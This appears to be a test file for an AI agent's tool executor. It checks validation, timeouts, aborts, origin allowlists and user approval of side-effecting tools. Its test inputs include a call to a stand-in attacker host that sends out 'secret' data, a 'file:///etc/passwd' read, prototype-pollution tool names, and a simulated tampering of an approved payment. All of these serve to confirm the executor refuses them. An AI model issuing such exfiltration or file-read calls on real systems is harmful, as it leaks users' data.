import { afterEach, describe, expect, it, vi } from 'vitest';
import { TabagentError } from '../../../src/core/errors';
import type { ApproveCall } from '../../../src/core/tool-runner';
import type { ToolCall } from '../../../src/core/types';
import { createToolExecutor } from '../../../src/tools/executor';
import type { ToolManifest } from '../../../src/tools/manifest';
import { ToolRegistry, type ToolImplementation } from '../../../src/tools/registry';

function manifest(name: string, extra: Partial<ToolManifest> = {}): ToolManifest {
  return {
    name,
    description: `The ${name} tool.`,
    kind: 'builtin',
    sideEffects: false,
    allowedOrigins: [],
    parameters: {
      type: 'object',
      properties: { text: { type: 'string' }, nested: { type: 'object', properties: { amount: { type: 'number' } } } },
      required: ['text'],
      additionalProperties: false,
    },
    ...extra,
  };
}

function call(name: string, args: Record<string, unknown> = { text: 'hi' }): ToolCall {
  return { id: 'call-1', name, arguments: args };
}

/** An implementation that records every call it gets. */
function recorder(result: unknown = { ok: true }) {
  const calls: Array<Record<string, unknown>> = [];
  const implementation: ToolImplementation = async (args) => {
    calls.push(args);
    return result;
  };
  return { calls, implementation };
}

const never = () => new Promise<never>(() => undefined);

afterEach(() => {
  vi.useRealTimers();
});

describe('executor: lookup and validation', () => {
  it('answers an unknown tool with an error listing the available tools', async () => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation);
    registry.register(manifest('shout'), echo.implementation);
    const result = await createToolExecutor(registry).execute(call('nope'));
    expect(result.isError).toBe(true);
    expect(result.error?.code).toBe('unknown-tool');
    expect(JSON.parse(result.content)).toEqual({ error: 'Unknown tool "nope". Available tools: echo, shout.' });
    expect(echo.calls).toHaveLength(0);
  });

  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'])('treats hostile name %s as unknown, running nothing', async (name) => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation);
    const result = await createToolExecutor(registry).execute(call(name));
    expect(result.error?.code).toBe('unknown-tool');
    expect(echo.calls).toHaveLength(0);
  });

  it('treats a disabled tool as unknown', async () => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation, { enabled: false });
    const result = await createToolExecutor(registry).execute(call('echo'));
    expect(result.error?.code).toBe('unknown-tool');
    expect(result.error?.message).toContain('No tools are available');
    expect(echo.calls).toHaveLength(0);
  });

  it.each([
    ['wrong type', { text: 5 }, '/text must be string'],
    ['missing property', {}, 'missing required property "text"'],
    ['extra property', { text: 'a', evil: true }, 'unexpected property "evil"'],
    ['nested wrong type', { text: 'a', nested: { amount: '5' } }, '/nested/amount must be number'],
  ])('rejects schema-violating arguments (%s) without running', async (_label, args, expected) => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation);
    const result = await createToolExecutor(registry).execute(call('echo', args));
    expect(result.isError).toBe(true);
    expect(result.error?.code).toBe('invalid-arguments');
    expect(JSON.parse(result.content)).toEqual({ error: `Invalid arguments for echo: ${expected}` });
    expect(echo.calls).toHaveLength(0);
  });

  it('rejects arguments that are not JSON data without running', async () => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation);
    const looped: Record<string, unknown> = { text: 'a' };
    looped.self = looped;
    for (const args of [{ text: 'a', fn: () => 1 }, looped, { text: new Date(0) }]) {
      const result = await createToolExecutor(registry).execute(call('echo', args));
      expect(result.error?.code).toBe('invalid-arguments');
    }
    expect(echo.calls).toHaveLength(0);
  });

  it('validates before asking for approval', async () => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('send', { sideEffects: true }), echo.implementation);
    const approve = vi.fn<ApproveCall>(async () => 'allow');
    const result = await createToolExecutor(registry).execute(call('send', { text: 1 }), { approve });
    expect(result.error?.code).toBe('invalid-arguments');
    expect(approve).not.toHaveBeenCalled();
    expect(echo.calls).toHaveLength(0);
  });

  it('exposes validate, requiresApproval and definitions', () => {
    const registry = new ToolRegistry();
    registry.register(manifest('echo'), recorder().implementation);
    registry.register(manifest('send', { sideEffects: true }), recorder().implementation);
    registry.register(manifest('hidden'), recorder().implementation, { enabled: false });
    const runner = createToolExecutor(registry);
    expect(runner.validate('echo', { text: 'a' })).toEqual({ ok: true });
    expect(runner.validate('echo', { text: 1 })).toEqual({ ok: false, message: 'Invalid arguments for echo: /text must be string' });
    expect(runner.validate('constructor', {})).toEqual({ ok: false, message: expect.stringContaining('Unknown tool "constructor"') as unknown });
    expect(runner.validate('hidden', { text: 'a' }).ok).toBe(false);
    expect(runner.requiresApproval('send')).toBe(true);
    expect(runner.requiresApproval('echo')).toBe(false);
    expect(runner.requiresApproval('nope')).toBe(true);
    expect(runner.definitions().map((definition) => definition.name)).toEqual(['echo', 'send']);
  });
});

describe('executor: running', () => {
  it('returns a string as it is and other values as JSON', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('text'), async () => 'plain words');
    registry.register(manifest('data'), async () => ({ answer: 42, list: [1, 'two'] }));
    registry.register(manifest('nothing'), async () => undefined);
    const runner = createToolExecutor(registry);
    expect(await runner.execute(call('text'))).toMatchObject({ content: 'plain words', isError: false });
    expect((await runner.execute(call('data'))).content).toBe('{"answer":42,"list":[1,"two"]}');
    expect((await runner.execute(call('nothing'))).content).toBe('null');
  });

  it('measures durationMs with the injected clock, from the start of the run', async () => {
    const registry = new ToolRegistry();
    let clock = 1000;
    registry.register(manifest('slow'), async () => {
      clock += 250;
      return 'done';
    });
    const result = await createToolExecutor(registry, { now: () => clock }).execute(call('slow'));
    expect(result.durationMs).toBe(250);
  });

  it('passes frozen, validated arguments and a signal to the implementation', async () => {
    const registry = new ToolRegistry();
    const seen: Array<{ args: Record<string, unknown>; signal: AbortSignal }> = [];
    registry.register(manifest('echo'), async (args, context) => {
      seen.push({ args, signal: context.signal });
      return 'ok';
    });
    const original = { text: 'hi', nested: { amount: 3 } };
    await createToolExecutor(registry).execute(call('echo', original));
    expect(seen[0]?.args).toEqual(original);
    expect(seen[0]?.args).not.toBe(original);
    expect(Object.isFrozen(seen[0]?.args)).toBe(true);
    expect(Object.isFrozen(seen[0]?.args.nested)).toBe(true);
    expect(seen[0]?.signal.aborted).toBe(false);
  });

  it('turns a thrown error into a tool-failed result', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('boom'), async () => {
      throw new Error('disk on fire');
    });
    registry.register(manifest('sync-boom'), (() => {
      throw new RangeError('sync failure');
    }) as ToolImplementation);
    registry.register(manifest('odd-boom'), async () => {
      throw 'a string';
    });
    const runner = createToolExecutor(registry);
    const result = await runner.execute(call('boom'));
    expect(result).toMatchObject({ isError: true, content: '{"error":"disk on fire"}' });
    expect(result.error?.code).toBe('tool-failed');
    expect((await runner.execute(call('sync-boom'))).error).toMatchObject({ code: 'tool-failed', message: 'sync failure' });
    expect((await runner.execute(call('odd-boom'))).error).toMatchObject({ code: 'tool-failed', message: 'a string' });
  });

  it('keeps the code of a TabagentError a tool throws', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('unset'), async () => {
      throw new TabagentError('config', 'Set it up in Settings.');
    });
    const result = await createToolExecutor(registry).execute(call('unset'));
    expect(result.error?.code).toBe('config');
    expect(JSON.parse(result.content)).toEqual({ error: 'Set it up in Settings.' });
  });

  it('reports a result that cannot become JSON', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('big'), async () => ({ n: BigInt(1) }));
    const result = await createToolExecutor(registry).execute(call('big'));
    expect(result.error?.code).toBe('tool-failed');
    expect(result.error?.message).toMatch(/cannot be turned into JSON/);
  });

  it('stops a tool that runs past the timeout', async () => {
    vi.useFakeTimers();
    const registry = new ToolRegistry();
    let toolSignal: AbortSignal | undefined;
    registry.register(manifest('hang'), async (_args, context) => {
      toolSignal = context.signal;
      return never();
    });
    const pending = createToolExecutor(registry, { timeoutMs: 5000 }).execute(call('hang'));
    await vi.advanceTimersByTimeAsync(5000);
    const result = await pending;
    expect(result.isError).toBe(true);
    expect(result.error?.code).toBe('timeout');
    expect(result.error?.message).toBe('Tool hang did not finish within 5 s and was stopped.');
    expect(toolSignal?.aborted).toBe(true);
  });

  it('answers promptly on abort, even when the tool ignores its signal', async () => {
    const registry = new ToolRegistry();
    let started!: () => void;
    const running = new Promise<void>((resolve) => (started = resolve));
    let toolSignal: AbortSignal | undefined;
    registry.register(manifest('hang'), async (_args, context) => {
      toolSignal = context.signal;
      started();
      return never();
    });
    const controller = new AbortController();
    const pending = createToolExecutor(registry).execute(call('hang'), { signal: controller.signal });
    await running;
    const before = performance.now();
    controller.abort();
    const result = await pending;
    // The tool never settles: any bound shows the abort won; this one leaves room for a loaded machine.
    expect(performance.now() - before).toBeLessThan(1000);
    expect(result.error?.code).toBe('aborted');
    expect(toolSignal?.aborted).toBe(true);
  });

  it('reports aborted, not tool-failed, when a tool rejects because of the abort', async () => {
    const registry = new ToolRegistry();
    registry.register(
      manifest('polite'),
      (_args, context) =>
        new Promise((_resolve, reject) => {
          context.signal.addEventListener('abort', () => reject(new DOMException('The operation was aborted.', 'AbortError')));
        }),
    );
    const controller = new AbortController();
    const pending = createToolExecutor(registry).execute(call('polite'), { signal: controller.signal });
    setTimeout(() => controller.abort(), 5);
    expect((await pending).error?.code).toBe('aborted');
  });

  it('does not run at all when the signal is already aborted', async () => {
    const registry = new ToolRegistry();
    const echo = recorder();
    registry.register(manifest('echo'), echo.implementation);
    const result = await createToolExecutor(registry).execute(call('echo'), { signal: AbortSignal.abort() });
    expect(result.error?.code).toBe('aborted');
    expect(echo.calls).toHaveLength(0);
  });

  it('never throws, even for a malformed call', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('echo'), recorder().implementation);
    const runner = createToolExecutor(registry);
    const malformed = [
      { id: 'x', name: 'echo', arguments: null },
      { id: 'x', name: 42, arguments: {} },
      { id: 'x', arguments: {} },
    ] as unknown as ToolCall[];
    for (const bad of malformed) {
      const result = await runner.execute(bad);
      expect(result.isError).toBe(true);
    }
    const nothing = await runner.execute(null as unknown as ToolCall);
    expect(nothing.isError).toBe(true);
  });

  it('runs calls independently of each other', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('echo'), async (args) => `echo ${String(args.text)}`);
    const runner = createToolExecutor(registry);
    const results = await Promise.all(['a', 'b', 'c'].map((text) => runner.execute(call('echo', { text }))));
    expect(results.map((result) => result.content)).toEqual(['echo a', 'echo b', 'echo c']);
  });
});

describe('executor: network access', () => {
  it('lets a tool reach only its allowed origins', async () => {
    const registry = new ToolRegistry();
    const fetchSpy = vi.fn<typeof fetch>(async () => new Response('{"temp":21}'));
    registry.register(manifest('weather', { allowedOrigins: ['https://api.weather.example'] }), async (args, context) => {
      const response = await context.fetch(String(args.text));
      return response.json();
    });
    const runner = createToolExecutor(registry, { fetch: fetchSpy });
    const allowed = await runner.execute(call('weather', { text: 'https://api.weather.example/now?city=Paris' }));
    expect(allowed).toMatchObject({ isError: false, content: '{"temp":21}' });
    const refused = await runner.execute(call('weather', { text: 'https://attacker.example/collect?data=secret' }));
    expect(refused.error?.code).toBe('denied');
    expect(refused.error?.message).toContain('may not contact https://attacker.example');
    const other = await runner.execute(call('weather', { text: 'file:///etc/passwd' }));
    expect(other.error?.code).toBe('denied');
    expect(fetchSpy).toHaveBeenCalledTimes(1);
  });

  it('gives a tool without allowed origins no network at all', async () => {
    const registry = new ToolRegistry();
    const fetchSpy = vi.fn<typeof fetch>(async () => new Response('x'));
    registry.register(manifest('offline'), async (_args, context) => context.fetch(new URL('https://example.com/')));
    const result = await createToolExecutor(registry, { fetch: fetchSpy }).execute(call('offline'));
    expect(result.error?.code).toBe('denied');
    expect(fetchSpy).not.toHaveBeenCalled();
  });
});

describe('executor: approval for side effects', () => {
  function sideEffectRegistry() {
    const registry = new ToolRegistry();
    const send = recorder('sent');
    registry.register(manifest('send', { sideEffects: true }), send.implementation);
    return { registry, send };
  }

  it('runs after "allow", asking with the exact call and the signal', async () => {
    const { registry, send } = sideEffectRegistry();
    const approve = vi.fn<ApproveCall>(async () => 'allow');
    const controller = new AbortController();
    const result = await createToolExecutor(registry).execute(call('send', { text: 'hello' }), { approve, signal: controller.signal });
    expect(result).toMatchObject({ isError: false, content: 'sent' });
    expect(approve).toHaveBeenCalledTimes(1);
    expect(approve.mock.calls[0]?.[0]).toEqual({ id: 'call-1', name: 'send', arguments: { text: 'hello' } });
    expect(approve.mock.calls[0]?.[1]).toBe(controller.signal);
    expect(send.calls).toEqual([{ text: 'hello' }]);
  });

  it('does not run after "deny"', async () => {
    const { registry, send } = sideEffectRegistry();
    const result = await createToolExecutor(registry).execute(call('send'), { approve: async () => 'deny' });
    expect(result.error?.code).toBe('denied');
    expect(JSON.parse(result.content)).toEqual({ error: 'The user declined to run send. It was not run.' });
    expect(send.calls).toHaveLength(0);
  });

  it('does not run without an approve callback', async () => {
    const { registry, send } = sideEffectRegistry();
    const result = await createToolExecutor(registry).execute(call('send'));
    expect(result.error?.code).toBe('denied');
    expect(send.calls).toHaveLength(0);
  });

  it('treats anything but "allow" as a refusal, including a failing callback', async () => {
    const { registry, send } = sideEffectRegistry();
    const runner = createToolExecutor(registry);
    const answers: ApproveCall[] = [
      async () => 'ALLOW' as 'allow',
      async () => undefined as unknown as 'allow',
      async () => {
        throw new Error('dialog crashed');
      },
    ];
    for (const approve of answers) expect((await runner.execute(call('send'), { approve })).error?.code).toBe('denied');
    expect(send.calls).toHaveLength(0);
  });

  it('does not ask for tools without side effects', async () => {
    const registry = new ToolRegistry();
    registry.register(manifest('read'), recorder('data').implementation);
    const approve = vi.fn<ApproveCall>(async () => 'deny');
    expect((await createToolExecutor(registry).execute(call('read'), { approve })).isError).toBe(false);
    expect(approve).not.toHaveBeenCalled();
  });

  it('hands the approve callback a deeply frozen copy', async () => {
    const { registry, send } = sideEffectRegistry();
    const original = call('send', { text: 'pay 5', nested: { amount: 5 } });
    let seen: Readonly<ToolCall> | undefined;
    await createToolExecutor(registry).execute(original, {
      approve: async (approved) => {
        seen = approved;
        return 'allow';
      },
    });
    expect(seen).not.toBe(original);
    expect(Object.isFrozen(seen)).toBe(true);
    expect(Object.isFrozen(seen?.arguments)).toBe(true);
    expect(Object.isFrozen(seen?.arguments.nested)).toBe(true);
    expect(() => {
      (seen?.arguments as Record<string, unknown>).text = 'pay 5000';
    }).toThrow(TypeError);
    expect(send.calls).toEqual([{ text: 'pay 5', nested: { amount: 5 } }]);
  });

  it('runs exactly the approved call when the original is changed during and after approval', async () => {
    const registry = new ToolRegistry();
    const send = recorder('sent');
    const other = recorder('other');
    registry.register(manifest('send', { sideEffects: true }), send.implementation);
    registry.register(manifest('wipe', { sideEffects: true }), other.implementation);
    const original = call('send', { text: 'to alice', nested: { amount: 5 } });
    const result = await createToolExecutor(registry).execute(original, {
      approve: async () => {
        // The attacker changes the live call object while the person is looking at the dialog...
        original.arguments.text = 'to mallory';
        (original.arguments.nested as Record<string, unknown>).amount = 5000;
        original.name = 'wipe';
        original.id = 'call-2';
        await Promise.resolve();
        return 'allow';
      },
    });
    // ...and again after approval.
    original.arguments.text = 'to eve';
    expect(result.isError).toBe(false);
    expect(send.calls).toEqual([{ text: 'to alice', nested: { amount: 5 } }]);
    expect(other.calls).toHaveLength(0);
  });

  it('answers promptly when stopped while waiting for approval', async () => {
    const { registry, send } = sideEffectRegistry();
    const controller = new AbortController();
    let asked!: () => void;
    const asking = new Promise<void>((resolve) => (asked = resolve));
    const pending = createToolExecutor(registry).execute(call('send'), {
      signal: controller.signal,
      approve: async () => {
        asked();
        return never();
      },
    });
    await asking;
    controller.abort();
    const result = await pending;
    expect(result.error?.code).toBe('aborted');
    expect(send.calls).toHaveLength(0);
  });

  it('does not count the approval wait against the timeout', async () => {
    vi.useFakeTimers();
    const { registry, send } = sideEffectRegistry();
    const pending = createToolExecutor(registry, { timeoutMs: 1000 }).execute(call('send'), {
      approve: () => new Promise((resolve) => setTimeout(() => resolve('allow'), 5000)),
    });
    await vi.advanceTimersByTimeAsync(5000);
    expect((await pending).isError).toBe(false);
    expect(send.calls).toHaveLength(1);
  });

  it('does not run a tool that was swapped while waiting for approval', async () => {
    const { registry, send } = sideEffectRegistry();
    const swapped = recorder('swapped');
    const result = await createToolExecutor(registry).execute(call('send'), {
      approve: async () => {
        registry.register(manifest('send', { sideEffects: true }), swapped.implementation, { replace: true });
        return 'allow';
      },
    });
    expect(result.error?.code).toBe('unknown-tool');
    expect(send.calls).toHaveLength(0);
    expect(swapped.calls).toHaveLength(0);
  });
});

describe('executor: prepared calls (the loop decides, the executor enforces)', () => {
  function sideEffectRegistry() {
    const registry = new ToolRegistry();
    const send = recorder('sent');
    registry.register(manifest('send', { sideEffects: true }), send.implementation);
    return { registry, send };
  }

  function prepared(executor: ReturnType<typeof createToolExecutor>, toolCall: ToolCall) {
    const outcome = executor.prepare?.(toolCall);
    if (!outcome?.ok) throw new Error(`not prepared: ${outcome?.message ?? 'no prepare'}`);
    return outcome.prepared;
  }

  it('runs an approved prepared call once; a replayed approval is refused', async () => {
    const { registry, send } = sideEffectRegistry();
    const executor = createToolExecutor(registry);
    const handle = prepared(executor, call('send', { text: 'once' }));
    expect((await executor.run?.(handle, { approved: true }))?.isError).toBe(false);
    const replay = await executor.run?.(handle, { approved: true });
    expect(replay?.error?.code).toBe('denied');
    expect(send.calls).toEqual([{ text: 'once' }]);
  });

  it('refuses a side-effecting call that was not approved, and a handle it did not issue', async () => {
    const { registry, send } = sideEffectRegistry();
    const executor = createToolExecutor(registry);
    expect((await executor.run?.(prepared(executor, call('send')), {}))?.error?.code).toBe('denied');
    const forged = { call: Object.freeze(call('send')), target: async () => ({ destinations: [] }) };
    expect((await executor.run?.(forged, { approved: true }))?.error?.code).toBe('denied');
    expect(send.calls).toHaveLength(0);
  });

  it('checks once at prepare: bad arguments and secret placeholders never become a prepared call', () => {
    const { registry } = sideEffectRegistry();
    const executor = createToolExecutor(registry);
    expect(executor.prepare?.(call('send', { text: 3 }))).toMatchObject({ ok: false, error: { code: 'invalid-arguments' } });
    expect(executor.prepare?.(call('send', { text: '{{secret:key}}' }))).toMatchObject({ ok: false, error: { code: 'invalid-arguments' } });
    expect(executor.prepare?.(call('nope'))).toMatchObject({ ok: false, error: { code: 'unknown-tool' } });
  });

  it('runs the frozen copy, whatever happens to the call it was prepared from', async () => {
    const { registry, send } = sideEffectRegistry();
    const executor = createToolExecutor(registry);
    const original = call('send', { text: 'shown' });
    const handle = prepared(executor, original);
    original.arguments.text = 'changed';
    original.name = 'other';
    await executor.run?.(handle, { approved: true });
    expect(send.calls).toEqual([{ text: 'shown' }]);
    expect(Object.isFrozen(handle.call.arguments)).toBe(true);
  });
});
